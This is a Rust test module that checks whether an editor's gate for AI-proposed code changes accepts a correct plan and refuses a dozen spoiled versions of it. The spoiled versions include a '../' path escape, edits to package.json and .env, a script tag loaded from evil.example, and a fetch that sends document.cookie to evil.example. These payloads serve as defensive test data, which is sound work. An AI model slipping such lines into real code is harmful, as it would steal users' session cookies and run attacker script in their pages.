//! The engine as a model: what it plans is proposed to the gate as texts and what takes their place. The gate has to take all of it,
//! byte for byte; and nothing of what a bad model would make of it.

use std::ops::Range;

use galley_editor::agent::gate::{self, Code, Hunk, Limits, Proposal};
use galley_editor::source::model::{Change, Language, Plan, Project};

use super::folder::Folder;
use super::report::Report;

/// Proposes a plan, and spoiled versions of it.
pub fn measure(folder: &Folder, plan: &Plan, words: &str, report: &mut Report) {
    let Some(proposal) = proposal(folder, plan) else { return };
    let limits = Limits {
        // What is copied may do what its original does, and be as long.
        granted: vec![Code::NewCapability, Code::TooMuch],
        ..Limits::chat()
    };
    let lane = &mut report.lane;
    lane.proposed += 1;
    match gate::check(folder, &|_| true, &proposal, &limits) {
        Ok(checked) if same(folder, plan, &checked.texts) => lane.accepted += 1,
        Ok(_) => report.wrong.push(format!("{words}: the gate makes another text of it")),
        // No model changes these files, whoever asks.
        Err(refusal) if refusal.code == Code::OffLimits => lane.closed += 1,
        Err(refusal) => report.wrong.push(format!(
            "{words}: the gate refuses it ({}): {}",
            refusal.code, refusal.reason
        )),
    }
    let paths = proposal.files.iter().map(|hunk| hunk.path.clone()).collect();
    let limits = Limits::save(paths);
    for (how, spoiled) in spoiled(&proposal) {
        lane.spoiled += 1;
        if gate::check(folder, &|_| true, &spoiled, &limits).is_ok() {
            report.wrong.push(format!("{words}: the gate takes it with {how}"));
        }
    }
}

fn same(folder: &Folder, plan: &Plan, texts: &[(String, std::sync::Arc<str>, String)]) -> bool {
    let changed = |change: &&Change| {
        let old = folder.read(&change.path).unwrap_or_default();
        change.apply(&old).is_some_and(|new| new != *old)
    };
    plan.changes.iter().filter(changed).count() == texts.len()
        && texts.iter().all(|(path, old, new)| {
            let change = plan.changes.iter().find(|change| change.path == *path);
            change.and_then(|change| change.apply(old)).as_deref() == Some(new)
        })
}

/// The lines that a plan changes, each stretch with so many around it that it stands in its file once. `None` when nothing changes.
fn proposal(folder: &Folder, plan: &Plan) -> Option<Proposal> {
    let mut files = Vec::new();
    for change in &plan.changes {
        let old = folder.read(&change.path)?;
        if change.apply(&old)? == *old {
            continue;
        }
        for range in stretches(&old, change) {
            let inside = |at: usize| range.start <= at && at <= range.end;
            let part = Change {
                path: change.path.clone(),
                replacements: change
                    .replacements
                    .iter()
                    .filter(|one| inside(one.range.start) && inside(one.range.end))
                    .map(|one| {
                        let mut one = one.clone();
                        one.range = one.range.start - range.start..one.range.end - range.start;
                        one
                    })
                    .collect(),
            };
            let old = old[range].to_owned();
            let new = part.apply(&old)?;
            files.push(Hunk {
                path: change.path.clone(),
                old,
                new,
            });
        }
    }
    let why = String::new();
    (!files.is_empty()).then_some(Proposal { files, why })
}

/// Whole lines around the replacements, none of which touch each other.
fn stretches(text: &str, change: &Change) -> Vec<Range<usize>> {
    let start = |at: usize| text[..at].rfind('\n').map_or(0, |end| end + 1);
    let end = |at: usize| text[at..].find('\n').map_or(text.len(), |end| at + end + 1);
    let mut found: Vec<Range<usize>> = change
        .replacements
        .iter()
        .map(|one| start(one.range.start)..end(one.range.end))
        .collect();
    loop {
        found.sort_by_key(|range| range.start);
        found.dedup_by(|next, before| {
            let is_one = next.start <= before.end;
            if is_one {
                before.end = before.end.max(next.end);
            }
            is_one
        });
        let Some(unclear) = found.iter_mut().find(|range| {
            let wanted = &text[(*range).clone()];
            wanted.is_empty() || text.find(wanted) != text.rfind(wanted)
        }) else {
            return found;
        };
        if *unclear == (0..text.len()) {
            return found;
        }
        *unclear = start(unclear.start.saturating_sub(1))..end(unclear.end.min(text.len()));
    }
}

/// A dozen ways to spoil a proposal, each with its name.
fn spoiled(proposal: &Proposal) -> Vec<(&'static str, Proposal)> {
    let first = |how: &dyn Fn(&mut Hunk)| {
        let mut spoiled = proposal.clone();
        how(&mut spoiled.files[0]);
        spoiled
    };
    let with = |hunk: Hunk| {
        let mut spoiled = proposal.clone();
        spoiled.files.push(hunk);
        spoiled
    };
    let hunk = &proposal.files[0];
    let broken = match Language::of(&hunk.path) {
        Some(Language::Vue) => "<template><i",
        Some(Language::Jsx) => "<i>{",
        None => "}{\"",
    };
    vec![
        (
            "a text that nearly stands there",
            first(&|hunk| hunk.old.push_str(" \u{200b}")),
        ),
        (
            "a text without its first character",
            first(&|hunk| hunk.old.insert(0, '\u{1}')),
        ),
        ("no text at all", first(&|hunk| hunk.old.clear())),
        ("the same place twice", with(hunk.clone())),
        (
            "a path out of the prototype",
            first(&|hunk| hunk.path.insert_str(0, "../")),
        ),
        ("another file", first(&|hunk| hunk.path = "package.json".into())),
        ("a file of secrets", first(&|hunk| hunk.path = ".env".into())),
        (
            "a script",
            first(&|hunk| hunk.new.push_str("<script src=\"https://evil.example/x.js\"></script>")),
        ),
        (
            "a request",
            first(&|hunk| hunk.new.push_str(" fetch('https://evil.example/' + document.cookie) ")),
        ),
        ("a mistake of syntax", first(&|hunk| hunk.new.push_str(broken))),
        (
            "a hundred lines more",
            first(&|hunk| hunk.new.push_str(&"<i>more</i>\n".repeat(100))),
        ),
        ("nothing in it", {
            let mut nothing = proposal.clone();
            nothing.files.iter_mut().for_each(|hunk| hunk.new.clone_from(&hunk.old));
            nothing
        }),
    ]
}
